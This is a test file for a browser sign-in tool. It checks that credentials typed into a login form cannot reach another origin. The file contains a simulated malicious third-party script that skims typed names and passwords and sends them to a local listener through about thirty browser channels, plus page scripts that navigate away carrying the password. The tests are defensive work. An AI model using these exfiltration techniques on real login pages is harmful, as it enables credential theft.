import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser } from '../../../src/capture/browser/browser.ts';
import { openBrowser } from '../../../src/capture/browser/open-browser.ts';
import { startFilteringProxy } from '../../../src/net/filtering-proxy.ts';
import { LOCAL, silent } from '../requests.ts';
import { html, openSite, type Site } from '../site.ts';
import { startListener, type Listener } from './listener.ts';

const NAME = 'ada';
const PASSWORD = 'swordfish & chips';

/** RFC 6455. */
const acceptKey = (key: string) =>
  createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');

let site: Site;
let other: Listener;
let browser: Browser;
/** Is told whatever it is asked to keep to, and connects to everything. */
let careless: Browser;
beforeAll(async () => {
  site = await openSite();
  other = await startListener(
    (path) => (path === '/third.js' ? thirdParty() : path === '/frame' ? FRAME : null),
    acceptKey,
  );
  browser = openBrowser(LOCAL);
  careless = openBrowser({
    ...LOCAL,
    openProxy: async () => ({ ...(await startFilteringProxy(null, silent)), keepTo: () => undefined }),
  });
});
afterAll(async () => {
  await Promise.all([browser.close(), careless.close()]);
  await Promise.all([site.close(), other.close()]);
});
afterEach(() => {
  other.heard.length = 0;
});

/** A frame of another origin, which passes on what it is told. */
const FRAME = `<script>
  onmessage = ({ data }) => fetch('/frame-fetch/' + data).finally(() => parent.postMessage('sent', '*'));
</script>`;

/** Each way that a page has, by its name. \`at(name)\` is an address of the other origin that holds what was typed. */
const WAYS = `({
  fetch: async () => fetch(at('fetch'), { mode: 'no-cors' }),
  'keep-alive': async () => fetch(at('keep-alive'), { method: 'POST', body: typed, mode: 'no-cors', keepalive: true }),
  xhr: () => new Promise((end) => { const r = new XMLHttpRequest(); r.onloadend = end; r.open('POST', at('xhr')); r.send(typed); }),
  beacon: async () => navigator.sendBeacon(at('beacon'), typed),
  image: () => element('img', { src: at('image') }),
  script: () => element('script', { src: at('script') }),
  style: () => element('link', { rel: 'stylesheet', href: at('style') }),
  prefetch: () => element('link', { rel: 'prefetch', href: at('prefetch') }),
  preload: () => element('link', { rel: 'preload', as: 'image', href: at('preload') }),
  preconnect: async () => element('link', { rel: 'preconnect', href: at('preconnect') }) && null,
  frame: () => element('iframe', { src: at('frame') }),
  object: () => element('object', { data: at('object') }),
  video: () => element('video', { src: at('video'), preload: 'auto' }),
  font: async () => new FontFace('f', 'url(' + at('font') + ')').load(),
  import: async () => import(at('import')),
  form: () => {
    const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'sink' }));
    const form = document.body.appendChild(Object.assign(document.createElement('form'), { method: 'post', action: at('form'), target: 'sink' }));
    return new Promise((end) => { frame.onload = end; form.submit(); });
  },
  ping: async () => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: at('ping') });
    document.body.append(link);
    link.click();
  },
  'new-tab': async () => {
    const link = Object.assign(document.createElement('a'), { href: at('new-tab'), target: '_blank' });
    document.body.append(link);
    link.click();
  },
  open: async () => open(at('open')),
  'form-in-tab': async () => {
    const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: at('form-in-tab'), target: '_blank' }));
    form.submit();
  },
  redirect: async () => fetch('/away?to=' + encodeURIComponent(at('redirect')), { mode: 'no-cors' }),
  socket: () => new Promise((end) => { const s = new WebSocket(at('socket').replace('http', 'ws')); s.onerror = end; s.onopen = end; }),
  'old-socket': async () => early.socket.send('old-socket/' + code),
  events: () => new Promise((end) => { const e = new EventSource(at('events')); e.onerror = end; e.onopen = end; }),
  worker: () => inWorker("fetch('" + at('worker') + "', { mode: 'no-cors' })"),
  'worker-socket': () => inWorker("new Promise((end) => { const s = new WebSocket('" + at('worker-socket').replace('http', 'ws') + "'); s.onerror = end; s.onopen = end; })"),
  'shared-worker': () => new Promise((end) => {
    const worker = new SharedWorker('/shared.js?' + encodeURIComponent(at('shared-worker')));
    worker.port.onmessage = end;
    worker.onerror = end;
  }),
  'old-frame': () => new Promise((end) => { onmessage = end; early.frame.contentWindow.postMessage(code, '*'); }),
})`;

/** What a script of somebody else does on the login page: as soon as something is typed, it sends it in every way. */
const thirdParty = () => `
  const other = 'http://127.0.0.1:${other.port}';
  const raw = ${other.rawPort};
  let [typed, code] = ['', ''];
  const at = (name) => other + '/' + name + '/' + code;
  const element = (tag, attributes) => new Promise((end) => {
    const made = document.createElement(tag);
    for (const event of ['load', 'error', 'loadeddata']) made.addEventListener(event, end);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
  });
  const inWorker = (work) => new Promise((end) => {
    const code = work + ".finally(() => postMessage(''))";
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = end;
    worker.onerror = end;
  });
  const early = { socket: new WebSocket(other.replace('http', 'ws') + '/early'), events: new EventSource(other + '/events') };
  early.frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: other + '/frame' }));
  const calls = async () => {
    const Peer = globalThis.RTCPeerConnection;
    if (Peer === undefined) return;
    for (const urls of ['stun:127.0.0.1:' + raw, 'turn:127.0.0.1:' + raw + '?transport=udp', 'turn:127.0.0.1:' + raw + '?transport=tcp']) {
      const peer = new Peer({ iceServers: [{ urls, username: code, credential: code }] });
      const ended = new Promise((end) => { peer.onicecandidate = ({ candidate }) => candidate ?? end(); });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await ended;
    }
  };
  const transport = async () => new WebTransport('https://127.0.0.1:' + raw + '/' + code).ready;
  // Some ways never tell that they were refused.
  const bound = () => new Promise((end) => { setTimeout(end, 2000); });
  const settle = (work) => Promise.race([Promise.resolve().then(work), bound()]).catch(() => undefined);
  const sent = [];
  document.addEventListener('input', ({ target }) => {
    typed = target.value;
    code = btoa(typed);
    const told = new XMLHttpRequest();
    told.open('GET', '/typed', false);
    told.send();
    const ways = ${WAYS};
    for (const way of Object.values(ways)) sent.push(settle(way));
    sent.push(settle(calls), settle(transport));
  });
  document.forms[0].addEventListener('submit', async (event) => {
    event.preventDefault();
    await Promise.all(sent);
    const body = new URLSearchParams(new FormData(document.forms[0]));
    const answer = await fetch('/session', { method: 'POST', body });
    if (answer.ok) document.body.insertAdjacentHTML('beforeend', '<p id="hello">Hello</p>');
  });
`;

/** What had arrived at the other origin when something was typed. */
let before: string[] = [];

function serveLogin(): void {
  site.page('/typed', (_, response) => {
    if (before.length === 0) before = [...other.heard];
    response.end();
  });
  site.page('/away', ({ url }, response) => {
    const to = new URL(url ?? '', site.origin).searchParams.get('to') ?? '/';
    response.writeHead(302, { location: to }).end();
  });
  site.page('/shared.js', ({ url = '' }, response) => {
    const to = JSON.stringify(decodeURIComponent(url.slice(url.indexOf('?') + 1)));
    response.writeHead(200, { 'content-type': 'text/javascript' });
    response.end(
      `onconnect = ({ ports: [port] }) => fetch(${to}, { mode: 'no-cors' }).finally(() => port.postMessage(''));`,
    );
  });
  site.page('/session', (_, response) => {
    response.writeHead(200, { 'set-cookie': 'sid=in; Path=/; HttpOnly' }).end();
  });
  site.page(
    '/login',
    html(
      `<form><input id="name" name="name"><input id="password" name="password" type="password"><button>Sign in</button></form>
       <script src="http://127.0.0.1:${other.port}/third.js"></script>`,
    ),
  );
}

const form = (changes: { path?: string; success?: { selector?: string; path?: string } } = {}) => ({
  url: site.origin + (changes.path ?? '/login'),
  access: { origin: site.origin, headers: [], cookies: [], localStorage: [] },
  fields: [
    { selector: '#name', value: NAME },
    { selector: '#password', value: PASSWORD },
  ],
  submit: null,
  success: changes.success ?? { selector: '#hello' },
  userAgent: null,
  timeout: 10_000,
});

const codes = [NAME, PASSWORD].map((value) => Buffer.from(value).toString('base64'));
const tells = (heard: string) =>
  [NAME, PASSWORD, encodeURIComponent(PASSWORD), ...codes].some((text) => heard.includes(text));

describe('what is typed into a form login', () => {
  it('reaches no other origin, in any way that a page has', async () => {
    before = [];
    serveLogin();
    const signedIn = await browser.signIn(form());
    expect(signedIn.cookies).toMatchObject([{ name: 'sid', value: 'in' }]);
    // The script, its frame and its sockets were there before.
    expect(before).toEqual(expect.arrayContaining(['GET /third.js', 'GET /frame', 'UPGRADE /early', 'GET /events']));
    expect(other.heard.slice(before.length)).toEqual([]);
  });

  it('would reach it in each of these ways, if nothing kept it', async () => {
    before = [];
    serveLogin();
    await careless.signIn(form());
    const reached = other.heard.filter(tells).join(' ');
    const names = [...WAYS.matchAll(/^ {2}'?([a-z-]+)'?: /gm)].map(([, name = '']) => name);
    // No window opens, and a connection says nothing.
    const closed = ['new-tab', 'open', 'form-in-tab', 'preconnect'];
    expect(names.filter((name) => !reached.includes(`${name === 'old-frame' ? 'frame-fetch' : name}/`))).toEqual(
      closed.toSorted((a, b) => names.indexOf(a) - names.indexOf(b)),
    );
  });

  it('does not leave with the page, and where that leads is no success', async () => {
    for (const leave of [
      `location.href = 'http://127.0.0.1:${other.port}/account?' + btoa(password.value)`,
      `location.href = '/away?to=' + encodeURIComponent('http://127.0.0.1:${other.port}/account?' + btoa(password.value))`,
      `document.body.innerHTML = '<form method=post action="http://127.0.0.1:${other.port}/account"><input name=p></form>'; document.forms[0].p.value = 'x'; document.forms[0].submit()`,
    ]) {
      serveLogin();
      site.page(
        '/leaves',
        html(`<form><input id="name"><input id="password"><button>In</button></form><script>
          document.forms[0].onsubmit = (event) => { event.preventDefault(); const password = document.querySelector('#password'); ${leave}; };
        </script>`),
      );
      const signingIn = browser.signIn({ ...form({ path: '/leaves', success: { path: '/account' } }), timeout: 2000 });
      await expect(signingIn).rejects.toThrow(/another origin, which it may not reach$/);
    }
    expect(other.heard).toEqual([]);
  });
});

describe('a form login', () => {
  it('goes on with what was loaded before: the scripts of others, and the next step of its own page', async () => {
    site.page(
      '/steps',
      html(`<form><input id="name"><button>Next</button></form>
        <form id="second" method="post" action="/in" hidden><input id="password" name="password" type="password"></form>
        <script src="http://127.0.0.1:${other.port}/library.js"></script>
        <script>document.forms[0].onsubmit = (event) => { event.preventDefault(); document.forms[1].hidden = false; };</script>`),
    );
    site.page('/in', (_, response) => response.writeHead(303, { location: '/account', 'set-cookie': 'sid=in' }).end());
    site.page('/account', html('<p id="hello">Hello</p><script>localStorage.setItem("who", "Ada")</script>'));
    const signedIn = await browser.signIn(form({ path: '/steps', success: { selector: '#hello', path: '/account' } }));
    expect(signedIn).toMatchObject({ cookies: [{ name: 'sid' }], localStorage: [{ name: 'who', value: 'Ada' }] });
    expect(other.heard.filter((text) => text !== 'connection')).toEqual(['GET /library.js']);
  });
});
